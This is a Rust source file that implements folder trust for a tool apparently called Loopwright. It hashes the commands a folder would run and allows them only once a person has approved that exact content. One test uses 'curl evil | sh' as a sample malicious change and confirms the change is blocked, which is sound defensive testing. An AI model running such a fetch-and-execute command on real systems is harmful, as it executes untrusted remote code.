//! Trust: a person says once, for exactly this content, that a folder's commands may run.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::digest::sha256_hex;

/// One thing a folder would make Loopwright execute.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct Executable {
    /// What it is: `check`, `agent`, `rehearsal scenario` or `git hook`.
    pub kind: String,
    /// Its name there.
    pub name: String,
    /// What would run, as a person reads it.
    pub command: String,
    /// All that decides what happens when it runs (arguments, environment, folder, a hook's content hash).
    pub fingerprint: String,
}

/// The digest of everything a folder would execute.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(transparent)]
pub struct TrustDigest(pub String);

impl TrustDigest {
    /// Digests a list of executables; their order does not matter.
    #[must_use]
    pub fn of(executables: &[Executable]) -> Self {
        let mut sorted: Vec<&Executable> = executables.iter().collect();
        sorted.sort_unstable();
        let mut content = Vec::new();
        for item in sorted {
            for field in [&item.kind, &item.name, &item.command, &item.fingerprint] {
                // Lengths keep fields apart: ("ab", "c") and ("a", "bc") must differ.
                content.extend((field.len() as u64).to_be_bytes());
                content.extend(field.as_bytes());
            }
        }
        Self(sha256_hex(&content))
    }
}

impl fmt::Display for TrustDigest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Whether a folder's commands may run.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(rename_all = "snake_case")]
pub enum TrustState {
    /// There is nothing to execute, so there is nothing to trust.
    NotNeeded,
    /// A person trusted exactly this content.
    Trusted,
    /// Nobody trusted this folder yet.
    Untrusted,
    /// It was trusted once, and what it would execute has changed since.
    Changed,
}

impl TrustState {
    /// Compares what is there with what was trusted.
    #[must_use]
    pub fn judge(executables: &[Executable], trusted: Option<&TrustDigest>) -> Self {
        match trusted {
            _ if executables.is_empty() => Self::NotNeeded,
            None => Self::Untrusted,
            Some(digest) if *digest == TrustDigest::of(executables) => Self::Trusted,
            Some(_) => Self::Changed,
        }
    }

    /// Whether commands may run now.
    #[must_use]
    pub const fn may_run(self) -> bool {
        matches!(self, Self::NotNeeded | Self::Trusted)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(name: &str, command: &str) -> Executable {
        Executable {
            kind: "check".into(),
            name: name.into(),
            command: command.into(),
            fingerprint: String::new(),
        }
    }

    #[test]
    fn order_does_not_matter_but_every_field_does() {
        let a = check("a", "make a");
        let b = check("b", "make b");
        let digest = TrustDigest::of(&[a.clone(), b.clone()]);
        assert_eq!(digest, TrustDigest::of(&[b.clone(), a.clone()]));
        assert_ne!(digest, TrustDigest::of(std::slice::from_ref(&a)));
        assert_ne!(TrustDigest::of(&[check("ab", "c")]), TrustDigest::of(&[check("a", "bc")]));
        let changed = Executable { fingerprint: "env".into(), ..b };
        assert_ne!(digest, TrustDigest::of(&[a, changed]));
    }

    #[test]
    fn trust_covers_exactly_what_was_shown() {
        let before = [check("test", "make test")];
        let after = [check("test", "curl evil | sh")];
        let digest = TrustDigest::of(&before);
        assert_eq!(TrustState::judge(&[], None), TrustState::NotNeeded);
        assert_eq!(TrustState::judge(&before, None), TrustState::Untrusted);
        assert_eq!(TrustState::judge(&before, Some(&digest)), TrustState::Trusted);
        assert_eq!(TrustState::judge(&after, Some(&digest)), TrustState::Changed);
        assert!(!TrustState::Changed.may_run());
    }
}
